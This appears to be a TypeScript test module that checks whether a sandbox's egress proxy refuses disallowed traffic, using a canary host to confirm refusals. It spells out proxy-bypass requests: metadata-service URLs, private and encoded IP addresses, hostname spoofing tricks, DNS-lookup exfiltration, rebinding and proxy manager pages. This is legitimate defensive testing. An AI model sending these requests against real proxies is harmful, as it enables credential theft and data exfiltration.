import { METADATA_ADDRESSES, PRIVATE_ADDRESSES } from '../../canary/visited.ts';
import type { CanaryNames } from '../../payload/canary/options.ts';
import type { Visits } from '../../payload/network/listener-control.ts';
import type { ProxyResult } from '../../payload/network/proxy-attempts.ts';
import type { Attempt, Judgement, Seen } from '../../probe.ts';
import { count, few, fail, pass, unclear } from '../judgement.ts';
import {
  type CanaryFacts,
  type EgressFacts,
  type EgressName,
  type EgressNames,
  isAbsent,
  markerOf,
  type NetworkFacts,
  type NetworkProbe,
  resultOf,
} from './facts.ts';
import { unique, visitsAttempt } from './way-out.ts';

interface EgressWay {
  id: string;
  title: string;
  why: string;
  expects: string;
  weakenedBy: NetworkProbe['weakenedBy'];
  /** Names that lead to a place of their own. */
  uses?: readonly (keyof EgressNames)[];
  /** "CONNECT host:port" or "GET url", each refused by a proxy that holds. */
  requests(egress: EgressFacts, canary: CanaryFacts, marker: string): readonly string[];
  /** What is said when one came through; `request` is one of them. */
  reached: (request: string) => string;
  /** True when a name must not even be looked up. */
  isSilent?: boolean;
}

/** A probe of what the egress proxy refuses, with a control that it lets through what it is to let through. */
function egressProbe(way: EgressWay): NetworkProbe {
  return {
    id: way.id,
    ring: 'network',
    needs: ['egress'],
    title: way.title,
    why: way.why,
    measures: ['egress-proxy-configured', 'no-direct-egress'],
    rows: ['G6'],
    expects: way.expects,
    weakenedBy: way.weakenedBy,
    attempts(_, facts) {
      const found = egressOf(facts, way.uses ?? []);
      if ('skipped' in found) return found;
      const { egress, canary } = found;
      const marker = markerOf(facts, way.id);
      const requests = way.requests(egress, canary, marker);
      if (requests.length === 0) return { skipped: 'the rules of egress leave nothing to be tried here' };
      return [
        {
          id: 'ask',
          at: 'egress',
          run: 'proxy',
          params: { host: egress.host, port: egress.port, requests, send: `${marker}\n` },
        },
        ...allowed(egress, marker),
        visitsAttempt(canary.control, [marker]),
      ];
    },
    judge: (seen) => judgeRefusals(seen, way),
  };
}

function egressOf(
  { egress, canary }: NetworkFacts,
  uses: readonly (keyof EgressNames)[],
): { egress: EgressFacts; canary: CanaryFacts } | { skipped: string } {
  if (isAbsent(egress)) return { skipped: egress.absent };
  if (isAbsent(canary)) return { skipped: canary.absent };
  const missing = uses.filter((use) => egress.names[use] === undefined);
  if (missing.length > 0)
    return { skipped: 'egress allows too few names for the canary to play a part for each of what is tried' };
  return { egress, canary };
}

/** An allowed name, which the proxy must let through: else a refusal says nothing. */
function allowed({ host, port, names }: EgressFacts, marker: string): Attempt[] {
  const { open } = names;
  if (open === undefined) return [];
  const requests = [`CONNECT ${open.name}:${open.ports[0] ?? 443}`];
  return [
    {
      id: 'allowed',
      at: 'egress',
      run: 'proxy',
      params: { host, port, requests, send: `control ${marker.replace('cp-', '')}\n` },
    },
  ];
}

function judgeRefusals(seen: Seen, way: EgressWay): Judgement {
  const ask = resultOf<ProxyResult[]>(seen, 'ask');
  const visits = resultOf<Visits>(seen, 'visits');
  if ('unclear' in ask) return unclear(ask.unclear);
  if ('unclear' in visits) return unclear(visits.unclear);
  if (ask.value.length === 0) return unclear('nothing came back of what was asked for');
  return (
    judgeAnswers(ask.value, way) ??
    judgeVisits(visits.value, way) ??
    judgeSilence(ask.value, way) ??
    judgeControl(seen) ??
    pass(
      `${count(ask.value.length, 'request')}, all refused with ${few(unique(ask.value.map(({ status }) => String(status))))}`,
    )
  );
}

function judgeAnswers(answers: readonly ProxyResult[], way: EgressWay): Judgement | undefined {
  const through = answers.find(({ status }) => status > 0 && status < 400);
  return through === undefined ? undefined : fail(way.reached(through.request));
}

function judgeVisits({ visits }: Visits, way: EgressWay): Judgement | undefined {
  const arrived = visits.filter(({ via }) => !via.startsWith('dns'));
  if (arrived.length > 0)
    return fail(
      `something arrived at a host outside: ${few(unique(arrived.map(({ to, port }) => `${to} port ${port}`)))}`,
    );
  const names = visits.filter(({ via }) => via.startsWith('dns')).map(({ name }) => name ?? '');
  return way.isSilent === true && names.length > 0
    ? fail(`a name server outside was asked for ${few(unique(names))}`)
    : undefined;
}

/** 5xx: the rules let it through, and no way was found. That is no refusal, and no answer is none either. */
function judgeSilence(answers: readonly ProxyResult[], way: EgressWay): Judgement | undefined {
  const passed = answers.find(({ status }) => status >= 500);
  if (passed !== undefined) return fail(`${way.reached(passed.request)}; only nobody answered there`);
  const silent = answers.filter(({ status }) => status === 0);
  if (silent.length === 0) return undefined;
  const codes = few(unique(silent.map(({ code }) => code ?? '')));
  return unclear(`egress did not answer ${count(silent.length, 'request')}: ${codes}`);
}

/** What egress is to let through came through; undefined when nothing is allowed. */
function judgeControl(seen: Seen): Judgement | undefined {
  if (!seen.has('allowed')) return undefined;
  const control = resultOf<ProxyResult[]>(seen, 'allowed');
  if ('unclear' in control) return unclear(control.unclear);
  const [answer] = control.value;
  if (answer?.status === 200) return undefined;
  return unclear(
    `egress did not let an allowed name through: ${answer?.status || answer?.code || 'no answer'}`,
  );
}

function authority({ name, ports }: EgressName): string {
  return `${name}:${ports[0] ?? 443}`;
}

/** Rules let a plain request through where port 80 is allowed. */
function openName(egress: EgressFacts): EgressName | undefined {
  return egress.names.open;
}

const target = (request: string): string => request.split(' ')[1] ?? request;

export const egressProbes: readonly NetworkProbe[] = [
  egressProbe({
    id: 'egress-names',
    title: 'Egress refuses every name that is not allowed',
    why: 'A list of allowed names is worth what it refuses.',
    expects: 'each request for another name is refused',
    weakenedBy: ['egress-open'],
    requests: ({ names }, _, marker) => [
      `CONNECT ${marker}.example.com:443`,
      `GET http://${marker}.example.com/`,
      ...(names.open === undefined
        ? []
        : [
            `CONNECT ${names.open.name}.${marker}.example.net:443`,
            `CONNECT x${marker}${names.open.name}:443`,
          ]),
    ],
    reached: (request) => `egress let a request for ${target(request)} through, which no rule allows`,
  }),
  egressProbe({
    id: 'egress-lookups',
    title: 'Egress does not even look up names that are not allowed',
    why: 'A lookup alone carries data out: the name server of the attacker reads the name.',
    expects: 'no query for a refused name arrives at the name server',
    weakenedBy: ['egress-lookups', 'egress-open'],
    requests: (_, __, marker) => [
      `CONNECT data-${marker}.example.org:443`,
      `GET http://data-${marker}.example.net/`,
    ],
    reached: (request) => `egress let a request for ${target(request)} through, which no rule allows`,
    isSilent: true,
  }),
  egressProbe({
    id: 'egress-private',
    title: 'Egress refuses allowed names that lead to private addresses',
    why: 'Whoever holds one allowed name points it at your router or your database.',
    expects: 'each request is refused once the name is resolved',
    weakenedBy: ['egress-unfiltered', 'egress-rebinding'],
    uses: ['privately'],
    requests: ({ names }) =>
      [names.privately, names.mixed]
        .filter((name) => name !== undefined)
        .map((name) => `CONNECT ${authority(name)}`),
    reached: (request) => `egress connected to a private address for ${target(request)}`,
  }),
  egressProbe({
    id: 'egress-metadata',
    title: 'Egress refuses allowed names that lead to cloud metadata',
    why: "The proxy stands closer to the metadata service than the gateway: it would fetch the machine's credentials for the agent.",
    expects: 'each request is refused once the name is resolved',
    weakenedBy: ['egress-unfiltered', 'egress-rebinding'],
    uses: ['metadata'],
    requests: ({ names }) => (names.metadata === undefined ? [] : [`CONNECT ${authority(names.metadata)}`]),
    reached: (request) => `egress connected to ${METADATA_ADDRESSES[0]} for ${target(request)}`,
  }),
  egressProbe({
    id: 'egress-ports',
    title: 'Egress refuses other ports of allowed names',
    why: 'Behind another port of a big host anybody may have a service.',
    expects: 'each request for another port is refused',
    weakenedBy: ['egress-any-port', 'egress-open'],
    uses: ['open'],
    requests: ({ names: { open } }) =>
      open === undefined
        ? []
        : [22, 25, 2375, 6667, 8443]
            .filter((port) => !open.ports.includes(port))
            .map((port) => `CONNECT ${open.name}:${port}`),
    reached: (request) => `egress opened a tunnel to ${target(request)}`,
  }),
  egressProbe({
    id: 'egress-addresses',
    title: 'Egress refuses addresses in place of names',
    why: 'An address needs no name on the list, and private ones are as near as public ones.',
    expects: 'each request for an address is refused, however it is written',
    weakenedBy: ['egress-addresses', 'egress-open'],
    requests: ({ insiders }, { v4, v6 }) => [
      `CONNECT ${v4}:443`,
      `GET http://${v4}/`,
      `CONNECT [${v6}]:443`,
      `CONNECT [::ffff:${v4}]:443`,
      `CONNECT ${asNumber(v4)}:443`,
      `CONNECT ${PRIVATE_ADDRESSES[0]}:443`,
      `GET http://${METADATA_ADDRESSES[0]}/latest/meta-data/`,
      'CONNECT 127.0.0.1:3128',
      'CONNECT localhost:3128',
      ...insiders.map((address) => `CONNECT ${address}:80`),
    ],
    reached: (request) => `egress let a request for ${target(request)} through`,
  }),
  egressProbe({
    id: 'egress-plain',
    title: 'Egress refuses plain HTTP to names that are allowed for TLS only',
    why: 'What is sent in the clear is read and changed by everybody on the way.',
    expects: 'each plain request is refused',
    weakenedBy: ['egress-plain', 'egress-open'],
    uses: ['open'],
    requests: (egress) => {
      const open = openName(egress);
      if (open === undefined || open.ports.includes(80)) return [];
      return [`GET http://${open.name}/`, `GET http://${open.name}:443/`, `POST http://${open.name}/`];
    },
    reached: (request) => `egress fetched ${target(request)} in the clear`,
  }),
  egressProbe({
    id: 'egress-manager',
    title: "Nobody in the cage reads the proxy's own management pages",
    why: 'They list every host that the gateway spoke to, and the settings of the proxy.',
    expects: 'each request for the manager is refused',
    weakenedBy: ['egress-manager'],
    requests: ({ host, port }) => [
      `GET http://${host}:${port}/squid-internal-mgr/menu`,
      `GET http://127.0.0.1:${port}/squid-internal-mgr/config`,
      `GET http://egress:${port}/squid-internal-mgr/menu`,
      `GET cache_object://${host}/info`,
    ],
    reached: (request) => `egress answered ${target(request)} with a page of its manager`,
  }),
  egressProbe({
    id: 'egress-disguises',
    title: 'Egress is not misled by other spellings of names',
    why: 'Lists of names have been passed with capitals, dots, user names and encodings ever since there are any.',
    expects: 'each request for a name that only looks allowed is refused',
    weakenedBy: ['egress-open', 'egress-addresses'],
    uses: ['open'],
    requests: ({ names: { open } }, { v4 }, marker) =>
      open === undefined
        ? []
        : [
            `GET http://${open.name}@${marker}.example.com/`,
            `GET http://${open.name}%2e${marker}.example.com/`,
            `GET http://${marker}.example.com/?x=http://${open.name}/`,
            `CONNECT ${marker}.EXAMPLE.com.:443`,
            `CONNECT ${v4}.:443`,
          ],
    reached: (request) => `egress took ${target(request)} for an allowed name`,
  }),
  rebindingProbe(),
];

/** The name leads to the canary first and to a private address afterwards. */
function rebindingProbe(): NetworkProbe {
  const probe = egressProbe({
    id: 'egress-rebinding',
    title: 'An allowed name cannot change where it leads between two lookups',
    why: 'A name that is checked and then looked up again is checked for nothing.',
    expects: 'no request for the name ends at the private address that it leads to later',
    weakenedBy: ['egress-rebinding'],
    uses: ['rebinding'],
    requests: () => [],
    reached: (request) => `egress connected to a private address for ${target(request)}`,
  });
  return {
    ...probe,
    attempts(_, facts) {
      const found = egressOf(facts, ['rebinding']);
      if ('skipped' in found) return found;
      const { egress, canary } = found;
      const { rebinding } = egress.names;
      if (rebinding === undefined) return { skipped: 'egress allows too few names' };
      const marker = markerOf(facts, probe.id);
      const ask = {
        host: egress.host,
        port: egress.port,
        requests: [`CONNECT ${authority(rebinding)}`],
        send: `${marker}\n`,
      };
      return [
        {
          id: 'ask',
          at: 'egress',
          run: 'proxyAgain',
          params: { ...ask, times: 4, everyMs: 700 },
          timeoutMs: 15_000,
        },
        visitsAttempt(canary.control, [marker]),
      ];
    },
    judge: (seen) => judgeRebinding(seen),
  };
}

function judgeRebinding(seen: Seen): Judgement {
  const ask = resultOf<ProxyResult[]>(seen, 'ask');
  const visits = resultOf<Visits>(seen, 'visits');
  if ('unclear' in ask) return unclear(ask.unclear);
  if ('unclear' in visits) return unclear(visits.unclear);
  const isPrivate = (address: string): boolean => (PRIVATE_ADDRESSES as readonly string[]).includes(address);
  const arrived = visits.value.visits.filter(({ via }) => !via.startsWith('dns'));
  const inside = arrived.find(({ to }) => isPrivate(to));
  if (inside !== undefined)
    return fail(
      `egress connected to the private address ${inside.to} for a name that led elsewhere when it was checked`,
    );
  if (!ask.value.some(({ status }) => status === 200))
    return unclear(
      `egress did not let the name through while it led to a public address: ${ask.value[0]?.status ?? 'no answer'}`,
    );
  return pass(
    `${count(ask.value.length, 'request')} while the name changed, ${arrived.length} at the public address, none at the private one`,
  );
}

/** What the canary is to say of the names. */
export function canaryNames(names: EgressNames, { v4 }: Pick<CanaryFacts, 'v4'>): CanaryNames {
  const [home] = PRIVATE_ADDRESSES;
  const lists: [EgressName | undefined, string[][]][] = [
    [names.open, [[v4]]],
    [names.privately, [[home]]],
    [names.metadata, [[METADATA_ADDRESSES[0]]]],
    [names.mixed, [[v4, home]]],
    [names.rebinding, [[v4], [home]]],
  ];
  return Object.fromEntries(
    lists.flatMap(([name, answers]) => (name === undefined ? [] : [[name.name.toLowerCase(), answers]])),
  );
}

function asNumber(address: string): number {
  return address.split('.').reduce((sum, octet) => sum * 256 + Number(octet), 0);
}
